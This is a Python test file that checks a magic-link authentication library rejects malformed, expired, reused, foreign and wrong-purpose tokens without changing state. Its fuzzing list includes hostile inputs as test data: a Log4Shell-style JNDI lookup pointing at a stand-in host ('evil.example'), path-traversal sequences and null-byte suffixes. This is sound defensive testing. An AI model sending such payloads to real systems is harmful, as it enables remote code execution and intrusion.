"""Wrong, expired, used, truncated and foreign tokens open nothing and change nothing."""

from collections.abc import Iterator
from urllib.parse import quote

from conftest import wait_for
from pages import EMAIL, JSON, PASSWORD, Letters, is_signed_in, other_browser, sign_up, sign_up_by_mail
from world import look

from magicauth.crypto import Keyring

DOORS = ["/auth/link", "/users/signup", "/auth/not_me", "/account/email/undo"]
FORM = {"email": EMAIL, "name": "Eve", "password": PASSWORD}


def _spoilt(token: str) -> Iterator[str]:
    challenge_id, mac = token.split(".")
    yield from (token[:-1], token[1:], token + "A", challenge_id, mac, f"{challenge_id}.", f".{mac}", "x", ".", "null")
    yield from (f"{mac}.{challenge_id}", f"{challenge_id}.{mac[::-1]}", f"{challenge_id[::-1]}.{mac}", token.swapcase())
    for at in (0, 3, 4, 25, 27, 40):
        yield token[:at] + ("A" if token[at] != "A" else "B") + token[at + 1 :]
    yield from (f"{token}\x00", f"{token}\n", f"\x00{token}", token.replace(".", "\uff0e"), f"{token}%00", f"{token} x")
    yield from ("\ufffd", "é" * 70, "A" * 26 + "." + "A" * 43, "A" * 60_000, "../" * 20, "${jndi:ldap://evil.example}")
    foreign = Keyring(["a key of somebody else, of 32 or more characters"])
    for purpose in ("sign_in", "sign_up", "reset"):
        yield foreign.token(purpose, foreign.new_id())


def test_a_token_that_is_not_exactly_right_opens_nothing(client, mailbox):
    sign_up(client)
    browser = other_browser(client)
    browser.post("/auth", data={"email": EMAIL})
    browser.post("/users/magic_link", data={"email": "grace@example.org"})
    right = [letter.token for letter in mailbox.all()[:2]]
    before = look(client.application)
    for path in DOORS:
        for token in (spoilt for good in right for spoilt in _spoilt(good)):
            if len(token) < 5000:
                assert browser.get(f"{path}?token={quote(token)}", headers=JSON).status_code == 403, (path, token)
            page = browser.post(path, data={"token": token, **FORM})
            assert (page.status_code, page.mimetype) == (403, "text/html"), (path, token)
            answer = browser.post(path, json={"token": token, **FORM})
            assert (answer.status_code, answer.get_json()["message"]) == (403, "Access denied."), (path, token)
            assert not answer.headers.getlist("Set-Cookie")
    assert look(client.application) == before


def test_a_token_opens_only_the_door_of_its_purpose(client, mailbox):
    sign_up(client)
    browser = other_browser(client)
    browser.post("/auth", data={"email": EMAIL})
    browser.post("/users/magic_link", data={"email": "grace@example.org"})
    tokens = {"/auth/link": mailbox.last(EMAIL).token, "/users/signup": mailbox.last("grace@example.org").token}
    before = look(client.application)
    for path in DOORS:
        for own, token in tokens.items():
            if own != path:
                assert browser.get(f"{path}?token={token}").status_code == 403, (path, own)
                assert browser.post(path, data={"token": token, **FORM}).status_code == 403, (path, own)
    assert look(client.application) == before
    assert browser.post("/auth/link", data={"token": tokens["/auth/link"]}).location == "/auth/password"


def test_a_used_token_opens_nothing(client, mailbox):
    sign_up_by_mail(client)
    for_sign_up = mailbox.last().token
    browser = other_browser(client)
    browser.post("/auth", data={"email": EMAIL, "password": PASSWORD})
    for_sign_in = mailbox.last().token
    browser.post("/auth/link", data={"token": for_sign_in})
    assert is_signed_in(browser)
    mailbox.all()
    before = look(client.application)
    stranger = other_browser(client)
    for path, token in (("/users/signup", for_sign_up), ("/auth/link", for_sign_in)):
        assert stranger.get(f"{path}?token={token}").status_code == 403
        assert stranger.post(path, data={"token": token, **FORM}).status_code == 403
    assert look(client.application) == before
    assert not is_signed_in(stranger)


def test_a_mail_scanner_that_presses_the_button_spends_nothing(client, mailbox):
    sign_up(client)
    browser = other_browser(client)
    browser.post("/auth", data={"email": EMAIL})
    letter = mailbox.last()
    before = look(client.application)
    for _ in range(10):
        scanner = other_browser(client)
        scanner.get(letter.link)
        for form in ({"token": letter.token}, {"token": letter.token, "email": ""}):
            assert scanner.post("/auth/link", data=form).status_code == 403
        assert scanner.post(letter.link).status_code == 403
    assert look(client.application) == before
    assert other_browser(client).post("/auth/link", data={"token": letter.token, "email": EMAIL}).status_code == 303


def test_an_expired_token_opens_nothing(make_app):
    client = make_app(MAGICAUTH_SIGN_UP_TTL=1).test_client()
    client.post("/users/magic_link", data={"email": EMAIL})
    token = Letters(client.application).last().token
    wait_for(lambda: client.get(f"/users/signup?token={token}").status_code == 403)
    assert client.post("/users/signup", json={"token": token, "name": "Ada", "password": PASSWORD}).status_code == 403
    assert look(client.application)["rows"]["users"] == []


def test_a_query_with_two_tokens_is_400(client, mailbox):
    client.post("/users/magic_link", data={"email": EMAIL})
    token = mailbox.last().token
    before = look(client.application)
    for path in DOORS:
        for answer in (
            client.get(f"{path}?token={token}&token={token}"),
            client.get(f"{path}?token={token}&token=x", headers=JSON),
            client.post(f"{path}?token={token}&token=x", json={"name": "Ada", "password": PASSWORD}),
        ):
            assert answer.status_code == 400, path
    assert look(client.application) == before


def test_a_token_is_needed_to_look_too(client):
    for path in DOORS:
        for query in ("", "?token=", "?Token=x"):
            answer = client.get(path + query, headers=JSON)
            assert (answer.status_code, answer.get_json()["message"]) == (400, "Token required."), (path, query)
